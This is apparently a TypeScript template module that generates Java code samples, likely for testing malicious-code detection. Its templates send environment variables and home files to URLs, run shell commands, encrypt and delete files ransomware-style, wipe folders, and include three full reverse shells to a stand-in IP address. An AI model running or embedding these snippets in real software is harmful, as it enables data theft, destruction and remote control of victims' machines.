import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `Path.of(System.getProperty("user.home"), ${quote(below)})`;
const whole = (imports: readonly string[], members: readonly string[], body: readonly string[]): string =>
  [
    ...imports,
    "",
    ...wrap(
      "public class Notes {",
      [...members, ...wrap("public static void main(String[] args) throws Exception {", body, "}", 4)],
      "}",
      4,
    ),
    "",
  ].join("\n");

export const java: Dialect = {
  name: "java",
  file: "scripts/Notes.java",
  run: "java scripts/Notes.java",
  imports: [
    ["HttpClient.new", "import java.net.http.*;"],
    ["URI", "import java.net.*;"],
    ["URL", "import java.net.*;"],
    ["Files.", "import java.nio.file.*;"],
    ["Path.", "import java.nio.file.*;"],
    ["InputStream", "import java.io.*;"],
    ["List.of", "import java.util.*;"],
    ["Base64", "import java.util.Base64;"],
    ["OkHttp", "import okhttp3.*;"],
    ["HttpPost", "import org.apache.http.client.methods.*;"],
    ["HttpClients", "import org.apache.http.impl.client.*;"],
    ["StringEntity", "import org.apache.http.entity.*;"],
    ["Jsoup", "import org.jsoup.Jsoup;"],
    ["Unirest", "import kong.unirest.Unirest;"],
    ["Cipher", "import javax.crypto.Cipher;"],
  ],
  program: ({ definitions, body }, imports) => whole(imports, definitions, body),
  quote,
  environment: { one: (name) => `System.getenv(${name})`, all: "System.getenv().toString()" },
  contentOf: (below) => `Files.readString(${home(below)})`,
  home,
  clients: {
    "http-client": {
      post: (url, text) => [
        `HttpRequest request = HttpRequest.newBuilder(URI.create(${url}))`,
        `    .POST(HttpRequest.BodyPublishers.ofString(${text})).build();`,
        "HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());",
      ],
      get: (url) =>
        value(
          "answer.body()",
          "HttpClient client = HttpClient.newHttpClient();",
          `HttpResponse<String> answer = client.send(HttpRequest.newBuilder(URI.create(${url})).build(), HttpResponse.BodyHandlers.ofString());`,
        ),
    },
    "url-connection": {
      post: (url, text) => [
        `HttpURLConnection con = (HttpURLConnection) new URL(${url}).openConnection();`,
        'con.setRequestMethod("POST");',
        "con.setDoOutput(true);",
        `con.getOutputStream().write(${text}.getBytes());`,
        "con.getResponseCode();",
      ],
      get: (url) =>
        value("body", `InputStream in = new URL(${url}).openStream();`, "String body = new String(in.readAllBytes());"),
    },
    "url-query": {
      post: (url, text) => [`new URL(${url} + "?d=" + URLEncoder.encode(${text}, "UTF-8")).openStream().close();`],
    },
    okhttp: {
      post: (url, text) => [
        "OkHttpClient client = new OkHttpClient();",
        `Request request = new Request.Builder().url(${url}).post(RequestBody.create(${text}, MediaType.get("text/plain"))).build();`,
        "client.newCall(request).execute();",
      ],
      get: (url) =>
        value(
          "body",
          `Response response = new OkHttpClient().newCall(new Request.Builder().url(${url}).build()).execute();`,
          "String body = response.body().string();",
        ),
    },
    "apache-client": {
      post: (url, text) => [
        `HttpPost post = new HttpPost(${url});`,
        `post.setEntity(new StringEntity(${text}));`,
        "HttpClients.createDefault().execute(post);",
      ],
    },
    jsoup: {
      post: (url, text) => [`Jsoup.connect(${url}).data("d", ${text}).ignoreContentType(true).post();`],
      get: (url) => value("body", `String body = Jsoup.connect(${url}).ignoreContentType(true).execute().body();`),
    },
    unirest: { post: (url, text) => [`Unirest.post(${url}).body(${text}).asString();`] },
    "curl-process": { post: (url, text) => [`new ProcessBuilder("curl", "-s", "-d", ${text}, ${url}).start();`] },
  },
  shells: {
    "runtime-array": { run: (command) => [`Runtime.getRuntime().exec(new String[] {"sh", "-c", ${command}});`] },
    runtime: { run: (command) => [`Runtime.getRuntime().exec(${command});`] },
    "process-builder": {
      run: (command) => [`new ProcessBuilder("bash", "-c", ${command}).inheritIO().start().waitFor();`],
      capture: (command) =>
        value(
          "seen",
          `Process process = new ProcessBuilder("sh", "-c", ${command}).start();`,
          "String seen = new String(process.getInputStream().readAllBytes());",
        ),
    },
    "process-list": {
      run: (command) => [
        `ProcessBuilder builder = new ProcessBuilder(List.of("/bin/sh", "-c", ${command}));`,
        "builder.start();",
      ],
    },
  },
  variable: (name) => name,
  set: (name, expression) => `String ${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(
      `static void ${name}(${parameters.map((each) => `String ${each}`).join(", ")}) throws Exception {`,
      body,
      "}",
      4,
    ),
  getter: (name, expression) => ({
    definitions: wrap(`private static String ${name}() throws Exception {`, [`return ${expression};`], "}", 4),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: { definitions: ["record Job(String target, String text) {}"], body: [`Job job = new Job(${url}, ${text});`] },
    url: "job.target()",
    text: "job.text()",
  }),
  loop: (items, body) => wrap(`for (String item : List.of(${items.join(", ")})) {`, body("item"), "}", 4),
  forever: (body) => wrap("while (true) {", [...body, "Thread.sleep(60000);"], "}", 4),
  save: (path, text) => [`Files.writeString(${path.startsWith("Path") ? path : `Path.of(${path})`}, ${text});`],
  append: (path, text) => [
    `Files.writeString(${path}, ${text} + "\\n", StandardOpenOption.CREATE, StandardOpenOption.APPEND);`,
  ],
  print: (text) => `System.out.println(${text});`,
  walk: (folder, body) =>
    wrap(`for (Path path : Files.walk(${folder}).filter(Files::isRegularFile).toList()) {`, body("path"), "}", 4),
  remove: (file) => [`Files.delete(${file});`],
  overwrite: (file) => [`Files.write(${file}, new byte[65536]);`],
  encrypt: (file) => [
    'Cipher cipher = Cipher.getInstance("AES");',
    "cipher.init(Cipher.ENCRYPT_MODE, KEY);",
    `Files.write(Path.of(${file} + ".locked"), cipher.doFinal(Files.readAllBytes(${file})));`,
    `Files.delete(${file});`,
  ],
  removeTree: (folder) =>
    wrap(
      `for (Path path : Files.walk(${folder}).sorted(java.util.Comparator.reverseOrder()).toList()) {`,
      ["Files.delete(path);"],
      "}",
      4,
    ),
  decode: (text) => `new String(Base64.getDecoder().decode(${text}))`,
  shellsBehindSockets: {
    "copy-streams": whole(
      ["import java.io.*;", "import java.net.Socket;"],
      [],
      [
        'Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();',
        'Socket s = new Socket("203.0.113.66", 4444);',
        "InputStream pi = p.getInputStream(), si = s.getInputStream();",
        "OutputStream po = p.getOutputStream(), so = s.getOutputStream();",
        "while (!s.isClosed()) {",
        "    while (pi.available() > 0) so.write(pi.read());",
        "    while (si.available() > 0) po.write(si.read());",
        "    so.flush();",
        "    po.flush();",
        "    Thread.sleep(50);",
        "}",
      ],
    ),
    "line-loop": whole(
      ["import java.io.*;", "import java.net.Socket;"],
      [],
      [
        'Socket socket = new Socket("203.0.113.66", 4444);',
        "BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));",
        "String line;",
        "while ((line = in.readLine()) != null) {",
        '    Process p = Runtime.getRuntime().exec(new String[] {"sh", "-c", line});',
        "    p.getInputStream().transferTo(socket.getOutputStream());",
        "}",
      ],
    ),
    bash: whole(
      [],
      [],
      [
        `Runtime.getRuntime().exec(new String[] {"bash", "-c", "exec 5<>/dev/tcp/203.0.113.66/4444; cat <&5 | while read line; do $line 2>&5 >&5; done"});`,
      ],
    ),
  },
  sockets: {
    print: whole(
      ["import java.io.*;", "import java.net.Socket;"],
      [],
      [
        'Socket socket = new Socket("127.0.0.1", 6379);',
        'socket.getOutputStream().write("PING\\r\\n".getBytes());',
        "BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));",
        "System.out.println(in.readLine());",
        'new ProcessBuilder("git", "log", "--oneline", "-5").inheritIO().start().waitFor();',
      ],
    ),
  },
};
